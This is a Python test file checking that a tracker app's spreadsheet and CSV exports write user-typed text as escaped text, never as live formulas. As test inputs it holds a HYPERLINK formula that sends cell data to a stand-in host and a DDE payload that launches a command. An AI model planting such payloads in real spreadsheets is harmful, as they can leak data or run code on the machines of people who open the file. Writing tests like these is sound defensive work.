"""Every spreadsheet the app produces goes through one writer: typed text never becomes a formula."""

from datetime import UTC, date, datetime
from io import BytesIO

import time_machine
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from tests import factories
from tracker.extensions import db
from tracker.spreadsheets import writer

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def formulas(data: bytes) -> list[str]:
    book = load_workbook(BytesIO(data))  # formulas as written, not their cached values
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_weekly_briefing_workbook_writes_titles_and_codes_as_text(app, client, ctx):
    factories.make_event()
    group = factories.make_group("AA")
    boss = factories.make_user("boss", "committee")
    factories.make_item(boss, group, title=FORMULA, code="=1+2", deadline=date(2026, 6, 3))
    db.session.commit()
    with time_machine.travel(datetime(2026, 6, 20, 2, tzinfo=UTC), tick=False):
        factories.login(client, "boss")
        response = client.get("/reports/weekly.xlsx?week=2026-W24")
    assert response.status_code == 200
    assert formulas(response.data) == []
    red = load_workbook(BytesIO(response.data)).worksheets[1]
    assert [row[:2] for row in red.iter_rows(min_row=2, values_only=True)] == [("'=1+2", "'" + FORMULA)]


def test_the_ledger_export_writes_formulas_as_text(app, client, ctx):
    factories.make_event()
    group = factories.make_group("AA")
    boss = factories.make_user("boss", "committee")
    factories.make_item(boss, group, title=FORMULA, measures="+cmd|' /C calc'!A0")
    db.session.commit()
    factories.login(client, "boss")
    response = client.get("/export.xlsx")
    assert response.status_code == 200
    assert formulas(response.data) == []


def test_append_neutralises_plain_values_and_cells_alike():
    book = writer.workbook(write_only=True)
    sheet = book.create_sheet("x")
    writer.append(sheet, ["=1+1", WriteOnlyCell(sheet, value="=2+2"), 3, writer.cell(sheet, "@SUM(A1)")])
    assert formulas(writer.to_bytes(book)) == []
    normal = Workbook()
    writer.append(normal.active, ["-2+3", "ok"])
    assert [c.value for c in normal.active[1]] == ["'-2+3", "ok"]


def test_csv_text_is_neutralised():
    data = writer.csv_bytes(["a", "b"], [["=1+1", 5], [None, "@x"]])
    assert data.decode("utf-8-sig").splitlines() == ["a,b", "'=1+1,5", ",'@x"]
